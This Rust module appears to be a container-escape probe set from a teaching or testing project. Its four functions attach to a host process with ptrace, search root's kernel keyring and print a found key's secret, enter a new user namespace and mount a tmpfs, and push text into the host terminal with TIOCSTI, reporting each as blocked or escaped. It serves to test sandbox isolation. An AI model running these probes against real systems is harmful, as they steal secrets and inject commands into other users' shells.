//! Borrowing the host's privileges: its processes (ptrace), its keys (the
//! kernel keyring), its terminal (TIOCSTI), and new ones made on the spot (a
//! user namespace). `man 2 ptrace`, `man 7 keyrings`, `man 2 ioctl_tty`,
//! `man 7 user_namespaces`.

use std::fs;

use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};
use nix::unistd::Pid;

use super::{HOLD, errno, printable};

/// ptrace(2) lets one process read and write another's memory and registers:
/// attached to a host process, we are that process. `PTRACE_SEIZE` attaches
/// without stopping it; we hold on for the host to see its `TracerPid`.
pub fn ptrace_host(pid: Pid) -> String {
    // SAFETY: PTRACE_SEIZE with no options; we detach below.
    let seized = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid.as_raw(), 0, 0) };
    if seized != 0 {
        return format!("BLOCKED: ptrace(SEIZE, {pid}): {}", errno());
    }
    std::thread::sleep(HOLD);
    // Detaching a seized, running tracee needs it stopped first.
    // SAFETY: plain ptrace requests on our tracee.
    unsafe {
        libc::ptrace(libc::PTRACE_INTERRUPT, pid.as_raw(), 0, 0);
        libc::waitpid(pid.as_raw(), std::ptr::null_mut(), libc::__WALL);
        libc::ptrace(libc::PTRACE_DETACH, pid.as_raw(), 0, 0);
    }
    format!("TRIED: attached to pid {pid} with ptrace, and let go")
}

/// The kernel keeps secrets (login keys, Kerberos tickets, disk keys) in
/// keyrings; every user has one (`@u`), and root's is the same for every
/// process whose uid is 0 *in the same user namespace*. Find the key
/// `description` there and read it.
pub fn keyctl(description: &str) -> String {
    const KEYCTL_SEARCH: libc::c_long = 10;
    const KEYCTL_READ: libc::c_long = 11;
    const KEY_SPEC_USER_KEYRING: libc::c_long = -4;
    let Ok(wanted) = std::ffi::CString::new(description) else {
        return "BLOCKED: a bad key description".into();
    };
    // SAFETY: NUL-terminated strings; the kernel only reads them.
    let key = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_SEARCH,
            KEY_SPEC_USER_KEYRING,
            c"user".as_ptr(),
            wanted.as_ptr(),
            0,
        )
    };
    if key < 0 {
        return format!("BLOCKED: search root's keyring for {description}: {}", errno());
    }
    let mut secret = [0u8; 256];
    // SAFETY: the kernel writes at most `len` bytes into `secret`.
    let len = unsafe {
        libc::syscall(libc::SYS_keyctl, KEYCTL_READ, key, secret.as_mut_ptr(), secret.len())
    };
    if len < 0 {
        return format!("BLOCKED: read key {key}: {}", errno());
    }
    let len = (len as usize).min(secret.len());
    format!("ESCAPED: key {description} holds {:?}", printable(&secret[..len]))
}

/// A process may make a user namespace of its own and is then root there with
/// every capability — over what that namespace owns. Then a mount namespace,
/// and a mount in it: capabilities that chapter 10 took away, back in use.
/// Held for the host to see our namespaces and mounts.
pub fn unshare_user(marker: &str) -> String {
    if let Err(e) = unshare(CloneFlags::CLONE_NEWUSER) {
        return format!("BLOCKED: unshare(CLONE_NEWUSER): {e}");
    }
    let caps = fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("CapEff:").map(|c| c.trim().to_owned()))
        .unwrap_or_default();
    let mounted = unshare(CloneFlags::CLONE_NEWNS)
        .and_then(|()| mount(Some(marker), "/tmp", Some("tmpfs"), MsFlags::empty(), None::<&str>));
    std::thread::sleep(HOLD);
    match mounted {
        Ok(()) => format!(
            "TRIED: in a new user namespace with capabilities {caps}; mounted a tmpfs on /tmp"
        ),
        Err(e) => {
            format!("TRIED: in a new user namespace with capabilities {caps}; but mount: {e}")
        }
    }
}

/// TIOCSTI pushes a byte into a terminal's *input*, as if typed: a container
/// that shares the terminal its runtime was started from types commands into
/// the shell that waits there once the container ends. (Linux 6.2 can switch
/// TIOCSTI off: `dev.tty.legacy_tiocsti`.)
pub fn tiocsti(text: &str) -> String {
    for fd in 0..3 {
        // SAFETY: isatty only inspects the descriptor.
        if unsafe { libc::isatty(fd) } != 1 {
            continue;
        }
        for byte in text.bytes().chain([b'\n']) {
            // SAFETY: TIOCSTI reads one byte from the pointer.
            if unsafe { libc::ioctl(fd, libc::TIOCSTI, &byte) } != 0 {
                return format!("BLOCKED: ioctl(TIOCSTI) on descriptor {fd}: {}", errno());
            }
        }
        return format!("TRIED: typed {text:?} into the terminal on descriptor {fd}");
    }
    "BLOCKED: no terminal on descriptors 0-2".into()
}
